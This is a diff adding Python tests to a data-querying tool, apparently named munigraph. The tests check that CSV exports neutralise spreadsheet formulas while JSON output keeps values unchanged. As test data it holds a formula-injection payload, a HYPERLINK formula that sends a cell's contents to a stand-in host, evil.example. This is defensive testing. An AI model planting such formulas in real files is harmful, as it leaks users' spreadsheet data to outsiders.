@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 from munigraph import PartialDate, Rows
 from munigraph.cli import cli
 from munigraph.language import speaking
-from munigraph.queries.output import BOM, headers
+from munigraph.queries.output import BOM, format_rows, headers
 from munigraph.queries.spreadsheet import workbook
 
 
@@ -158,3 +158,44 @@ def test_workbook_keeps_text_as_text_and_numbers_exact():
     assert ["Run on", "2024-01-02 03:04:05+00:00"] == about[[r[0] for r in about].index("Run on")][:2]
     assert sheet_rows(load_workbook(io.BytesIO(workbook(rows, query="find", parameters={"text": "x"},
                                                         sources=[], now=now)))["About"]) == about
+
+
+@pytest.mark.pure
+def test_csv_for_people_never_holds_a_formula():
+    rows = [{"text": text, "n": -3, "x": 2.5, "list": ["-x", "y"], "yes": True}
+            for text in ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "Olhão")]
+    written = list(csv.reader(io.StringIO(format_rows(rows, list(rows[0]), "csv").removeprefix(BOM))))
+    assert [row[0] for row in written[1:]] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
+                                               "'@SUM(1)", "'+1+1", "'-1+1", "Olhão"]
+    assert {tuple(row[1:]) for row in written[1:]} == {("-3", "2.5", "'-x; y", "True")}  # numbers stay numbers
+    assert json.loads(format_rows(rows, list(rows[0]), "json"))[0]["text"].startswith("=HYPERLINK")
+
+
+def test_hostile_names_reach_csv_neutralised_and_json_unchanged(graph, data, tmp_path):
+    """Actors named as formulas, loaded from a facts file, in `munigraph query --format csv`
+    and explore's CSV download (a leading '), and unchanged in JSON and the Python API."""
+    from starlette.testclient import TestClient
+
+    from munigraph.viz.explore import app
+
+    evil, other = '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+Vila Nova+1"
+    path = tmp_path / "formulas.csv"
+    path.write_text("party_a,party_a_country,party_b,party_b_country,relation,programme,topic,year,"
+                    "source_address,quote\n" + '"{}",Portugal,"{}",Spain,exchange,,,2019,'
+                    "https://example.org/formulas,a quote\n".format(evil.replace('"', '""'), other),
+                    encoding="utf-8")
+    before = graph.digest()
+    graph.load([path])
+    try:
+        shown = run("query", "partners", "-p", f"actor={other}", "--format", "csv", *data).output
+        rows = list(csv.DictReader(io.StringIO(shown.removeprefix(BOM))))
+        downloaded = TestClient(app(graph), base_url="http://127.0.0.1").get(
+            "/api/query/partners.csv", params={"actor": other}).content.decode("utf-8-sig")
+        assert list(csv.DictReader(io.StringIO(downloaded))) == rows
+        assert [row["partner"] for row in rows] == ["'" + evil]
+        assert [row["partner"] for row in graph.query("partners", actor=other)] == [evil]
+        answer = json.loads(run("query", "partners", "-p", f"actor={other}", "--format", "json", *data).output)
+        assert [row["partner"] for row in answer] == [evil]
+    finally:
+        graph.unload([path])
+    assert graph.digest() == before
